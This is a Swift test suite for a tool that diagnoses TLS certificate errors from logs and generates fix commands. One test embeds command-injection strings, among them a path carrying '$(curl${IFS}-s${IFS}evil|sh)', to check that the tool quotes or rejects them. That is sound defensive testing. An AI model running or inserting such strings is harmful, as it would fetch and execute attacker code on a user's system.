import Testing
import TrustStoreGuide

/// Every entry of every stack's vocabulary (TLSVocabulary) resolves, by its code alone and by its
/// words alone, to the entry's cause; and texts reach explain JSON-escaped or hard-wrapped.
@Suite struct VocabularyTests {
    typealias Cause = ErrorExplanation.Cause

    @Test func everyStackHasEntries() {
        for stack in TLSStack.allCases {
            #expect(TLSVocabulary.entries.contains { $0.stack == stack }, "no entry for \(stack)")
        }
        #expect(TLSVocabulary.entries.count >= 250)
    }

    /// Each code form, alone in a line the way logs frame it, gives the entry's cause.
    @Test func everyCodeResolvesToItsCause() {
        var wrong: [String] = []
        for entry in TLSVocabulary.entries {
            for form in entry.codeForms {
                let text = "error: \(form) "
                let cause = ErrorExplanation.explain(text)?.cause
                if cause != entry.cause { wrong.append("\(entry.stack) \(entry.code) as \"\(form)\": \(cause?.rawValue ?? "not recognised"), want \(entry.cause.rawValue)") }
            }
        }
        #expect(wrong.isEmpty, Comment(rawValue: "\(wrong.count) codes:\n" + wrong.joined(separator: "\n")))
    }

    /// Each entry's words, as the stack prints them, give the entry's cause.
    @Test func everyTextResolvesToItsCause() {
        var wrong: [String] = []
        for entry in TLSVocabulary.entries {
            let cause = ErrorExplanation.explain(entry.text)?.cause
            if cause != entry.cause { wrong.append("\(entry.stack) \(entry.code) \"\(entry.text)\": \(cause?.rawValue ?? "not recognised"), want \(entry.cause.rawValue)") }
        }
        #expect(wrong.isEmpty, Comment(rawValue: "\(wrong.count) texts:\n" + wrong.joined(separator: "\n")))
    }

    /// A code decides over the words around it: a translated message still resolves.
    @Test(arguments: [
        ("curl: (60) Problème de certificat SSL : num=9 le certificat n'est pas encore valide", Cause.notYetValid),
        ("Fehler 10 bei 0 Tiefe: error 10 at 0 depth lookup: Zertifikat abgelaufen", .expired),
        ("schannel: AcquireCredentialsHandle fehlgeschlagen: 0x800B0101 - Ein erforderliches Zertifikat liegt nicht im Gültigkeitszeitraum", .expired),
        ("Firefox: Fehlercode: SEC_ERROR_EXPIRED_CERTIFICATE", .expired),
        ("npm ERR! code CERT_NOT_YET_VALID", .notYetValid),
        ("X509_V_ERR_CERT_SIGNATURE_FAILURE", .staleRoot),
        ("Zertifikatskette: X509ChainStatusFlags.Revoked", .revoked),
    ])
    func codesDecideOverTranslatedWords(text: String, cause: Cause) throws {
        let explanation = try #require(ErrorExplanation.explain(text), "\(text)")
        #expect(explanation.cause == cause, "\(text)")
    }

    static let samples: [(text: String, cause: Cause)] = [
        ("npm ERR! request to https://registry.npmjs.org/left-pad failed, reason: unable to verify the first certificate", .leafAloneUntrusted),
        ("Error response from daemon: Get \"https://registry-1.docker.io/v2/\": tls: failed to verify certificate: x509: certificate has expired or is not yet valid: current time 2019-01-01T00:00:00Z is before 2024-03-01T00:00:00Z", .notYetValid),
        ("javax.net.ssl.SSLHandshakeException: PKIX path validation failed: java.security.cert.CertPathValidatorException: Signature does not match.", .staleRoot),
        ("Caused by: java.lang.RuntimeException: Unexpected error: java.security.InvalidAlgorithmParameterException: the trustAnchors parameter must be non-empty", .emptyTrustStore),
    ]

    /// A terminal or CI log cut the line at 80 columns, in the middle of words.
    @Test func hardWrappedTextsResolve() throws {
        for sample in Self.samples {
            let characters = Array(sample.text)
            let wrapped = stride(from: 0, to: characters.count, by: 80).map { String(characters[$0..<min($0 + 80, characters.count)]) }.joined(separator: "\n")
            #expect(wrapped.contains("\n"), "sample too short to wrap")
            let explanation = try #require(ErrorExplanation.explain(wrapped), "\(wrapped)")
            #expect(explanation.cause == sample.cause, "\(wrapped)")
        }
    }

    /// The same texts inside a JSON string (the Engine API's stream, a JSON log line).
    @Test func jsonEscapedTextsResolve() throws {
        for sample in Self.samples {
            let escaped = sample.text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"").replacing("'", with: "\\u0027")
            let json = "{\"errorDetail\":{\"message\":\"pull failed\\n\(escaped)\\n\"},\"error\":\"\(escaped)\"}"
            let explanation = try #require(ErrorExplanation.explain(json), "\(json)")
            #expect(explanation.cause == sample.cause, "\(json)")
        }
    }

    /// The new causes print their own fix, not the root installation alone.
    @Test func noRootCausesGetTheirFix() throws {
        let clock = try #require(ErrorExplanation.explain(Self.samples[1].text))
        let fix = clock.fix(caFile: "/r.pem").joined(separator: "\n")
        #expect(fix.contains("date -u") && fix.contains("current time 2019-01-01T00:00:00Z is before 2024-03-01T00:00:00Z"))
        let stale = try #require(ErrorExplanation.explain(Self.samples[2].text)).fix(caFile: "/r.pem").joined(separator: "\n")
        #expect(stale.contains("subjectKeyIdentifier") && stale.contains("authorityKeyIdentifier"))
        let empty = try #require(ErrorExplanation.explain(Self.samples[3].text)).fix(caFile: "/r.pem").joined(separator: "\n")
        #expect(empty.contains("keytool -list -cacerts"))
        let revoked = try #require(ErrorExplanation.explain("curl: (35) schannel: next InitializeSecurityContext failed: CRYPT_E_REVOKED (0x80092010)"))
        #expect(revoked.cause == .revoked && !revoked.fix(caFile: nil).joined().contains(GatewayRoot.placeholder))
    }

    /// A library inside a named tool is reported as "TOOL (via LIBRARY)", with the library's own
    /// setting after the tool's; alone, the library is the client.
    @Test func aLibraryInsideANamedToolIsReportedViaIt() throws {
        let cargo = try #require(ErrorExplanation.explain("""
                Updating crates.io index
            error: failed to fetch `https://github.com/rust-lang/crates.io-index`
            Caused by:
              the SSL certificate is invalid; class=Ssl (16); code=Certificate (-17)
            """))
        #expect(cargo.client == "cargo" && cargo.via == "libgit2" && cargo.cause == .untrustedUnknownShape)
        let fix = cargo.fix(caFile: "/r.pem")
        #expect(fix.contains { $0.hasPrefix("export CARGO_HTTP_CAINFO=") }, "\(fix)")
        #expect(fix.contains("# the error came from libgit2 inside cargo, which the setting above may not reach; for libgit2:"), "\(fix)")
        #expect(fix.contains { $0.hasPrefix("export SSL_CERT_FILE=") && $0.contains("git-fetch-with-cli") }, "\(fix)")
        #expect(ExplainReport.render(cargo, caFile: nil).hasPrefix("client    cargo (via libgit2)"))

        let alone = try #require(ErrorExplanation.explain("git error:the SSL certificate is invalid; class=Ssl (16); code=Certificate (-17)"))
        #expect(alone.client == "libgit2" && alone.via == nil)
        // A tool's own words are not "via" anything: curl's error is curl's.
        #expect(try #require(ErrorExplanation.explain("curl: (60) SSL certificate problem: unable to get local issuer certificate")).via == nil)
    }

    /// The fix follows the version the text shows, where the version changes the answer.
    @Test(arguments: [
        ("Error: unable to get local issuer certificate\n  code: 'UNABLE_TO_GET_ISSUER_CERT_LOCALLY'\n\nNode.js v20.20.2",
         "# node 20.20 has no switch for the OS store"),
        ("Error: unable to get local issuer certificate\n  code: 'UNABLE_TO_GET_ISSUER_CERT_LOCALLY'\n\nNode.js v24.1.0",
         "# node 24.1 can read the OS store"),
        ("Could not fetch URL https://pypi.org/simple/six/: There was a problem confirming the ssl certificate: certificate verify failed: unable to get local issuer certificate\n"
         + "[notice] A new release of pip is available: 23.2.1 -> 24.0", "# pip 23.2 reads certifi only"),
        ("pip 24.3.1 from /usr/lib/python3/dist-packages/pip (python 3.12)\nCould not fetch URL https://pypi.org/simple/six/: There was a problem confirming the ssl certificate: "
         + "certificate verify failed: unable to get local issuer certificate", "# pip 24.3 also reads the OS store"),
        ("error: invalid peer certificate: UnknownIssuer\n  hint: use `--native-tls`", "# this uv names --native-tls: UV_NATIVE_TLS=1"),
        ("error: invalid peer certificate: UnknownIssuer\n  hint: use `--system-certs`", "# this uv names --system-certs: UV_SYSTEM_CERTS=1"),
        ("  File \"/usr/lib/python3.13/ssl.py\", line 1\nssl.SSLCertVerificationError: [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: "
         + "Basic Constraints of CA cert not marked critical (_ssl.c:1028)", "# Python 3.13 sets VERIFY_X509_STRICT by default"),
        ("Collecting six\n  File \"/usr/lib/python3.13/site-packages/pip/_vendor/urllib3/connectionpool.py\", line 1\nCould not fetch URL https://pypi.org/simple/six/: "
         + "There was a problem confirming the ssl certificate: [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: Missing Authority Key Identifier (_ssl.c:1028)",
         "# Python 3.13 sets VERIFY_X509_STRICT by default"),
        ("  File \"/usr/lib/python3.11/ssl.py\", line 1\nssl.SSLCertVerificationError: [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: "
         + "Missing Authority Key Identifier (_ssl.c:1028)", "# Python 3.11 does not set VERIFY_X509_STRICT by default"),
    ])
    func theFixFollowsTheVersionTheTextShows(text: String, note: String) throws {
        let explanation = try #require(ErrorExplanation.explain(text), "\(text)")
        let fix = explanation.fix(caFile: "/r.pem")
        #expect(fix.first?.hasPrefix(note) == true, "\(fix)")
    }

    /// No version in the text, no version note.
    @Test func noVersionNoNote() throws {
        let fix = try #require(ErrorExplanation.explain("npm error code UNABLE_TO_GET_ISSUER_CERT_LOCALLY")).fix(caFile: "/r.pem")
        #expect(!fix.contains { $0.hasPrefix("# node ") }, "\(fix)")
    }

    /// A chroot is a command line whose directory is a path: options and their values are skipped,
    /// log lines that merely start with the word are not one, and the directory is quoted in the fix.
    @Test(arguments: [
        ("$ sudo chroot /srv/bookworm curl https://x/", "chroot", "a chroot (/srv/bookworm)"),
        ("root@build:/# chroot --userspec u:g /srv/r curl https://x/\r", "chroot", "a chroot (/srv/r)"),
        ("$\tarch-chroot -u user /mnt curl https://x/", "chroot", "a chroot (/mnt)"),
        ("schroot -c bookworm -- curl https://x/", "chroot", "a chroot (its root directory is not in the log)"),
        ("chroot environment ready in /var/lib/mock", "shell", "your shell"),
        ("> chroot failed to run", "shell", "your shell"),
    ])
    func chrootCommandLines(line: String, context: String, summary: String) throws {
        let explanation = try #require(ErrorExplanation.explain(line + "\ncurl: (60) SSL certificate problem: unable to get local issuer certificate"))
        #expect(explanation.context.id == context && explanation.context.summary.hasPrefix(summary), "\(explanation.context.summary)")
    }

    @Test func pastedPathsAreOneShellWordInTheFix() throws {
        let explanation = try #require(ErrorExplanation.explain(
            "$ chroot /srv/x$(curl${IFS}-s${IFS}evil|sh) curl https://x/\ncurl: (60) SSL certificate problem: unable to get local issuer certificate"))
        let install = try #require(explanation.fix(caFile: "/r.pem").first { $0.hasPrefix("sudo cp ") })
        #expect(install.hasPrefix("sudo cp /r.pem '/srv/x$(curl${IFS}-s${IFS}evil|sh)'/usr/local/share/ca-certificates/gateway-root.crt"), "\(install)")
        #expect(ErrorExplanation.shellWord("/etc/ssl/ca.pem") == "/etc/ssl/ca.pem" && ErrorExplanation.shellWord("/a b/it's") == "'/a b/it'\\''s'")
        // A host that is no host name never reaches the fix's commands.
        let hostile = try #require(ErrorExplanation.explain("curl: (60) SSL certificate problem: unable to get local issuer certificate for https://a&touch${IFS}x/"))
        #expect(hostile.host == nil && !hostile.fix(caFile: "/r.pem").joined().contains("touch"), "\(hostile.fix(caFile: "/r.pem"))")
    }

    /// node's OS-store switch: the flag on Linux from 23.9 and 22.15, the variable from 24.6 and 22.19.
    @Test(arguments: [("20.11", "has no switch"), ("23.8", "has no switch"), ("23.9", "with node --use-system-ca (or NODE_OPTIONS"),
                      ("22.15", "with node --use-system-ca (or NODE_OPTIONS"), ("22.19", "can read the OS store: with the root there"),
                      ("24.5", "with node --use-system-ca (or NODE_OPTIONS"), ("24.6", "can read the OS store: with the root there")])
    func nodeVersionThresholds(version: String, says: String) throws {
        let explanation = try #require(ErrorExplanation.explain("Error: unable to get local issuer certificate\n  code: 'UNABLE_TO_GET_ISSUER_CERT_LOCALLY'\n\nNode.js v\(version).0"))
        let note = explanation.fix(caFile: "/r.pem").first ?? ""
        #expect(note.hasPrefix("# node \(version) ") && note.contains(says), "\(note)")
        // Not for a cause no store fixes, nor inside a build.
        let expired = try #require(ErrorExplanation.explain("Error: certificate has expired\n  code: 'CERT_HAS_EXPIRED'\n\nNode.js v\(version).0"))
        #expect(!(expired.fix(caFile: "/r.pem").first ?? "").hasPrefix("# node"))
    }

    /// A package's checksum or signature is not TLS: its own cause and fix, and a certificate
    /// error in the same log still wins.
    @Test func packageIntegrityIsNotACertificateProblem() throws {
        let apt = try #require(ErrorExplanation.explain("W: GPG error: http://deb.debian.org/debian bookworm InRelease: The following signatures couldn't be verified because the public key is not available: NO_PUBKEY 0E98404D386FA1D9"))
        #expect(apt.client == "apt" && apt.cause == .packageIntegrity && apt.fix(caFile: "/r.pem").contains { $0.contains("debian-archive-keyring") })
        let pip = try #require(ErrorExplanation.explain("ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE. If you have updated the package versions, please update the hashes."))
        #expect(pip.client == "pip" && pip.cause == .packageIntegrity && !pip.fix(caFile: "/r.pem").joined().contains("/r.pem"))
        let both = try #require(ErrorExplanation.explain("npm error code UNABLE_TO_GET_ISSUER_CERT_LOCALLY\nnpm ERR! code EINTEGRITY"))
        #expect(both.cause == .untrustedRootNotSent)
    }
}

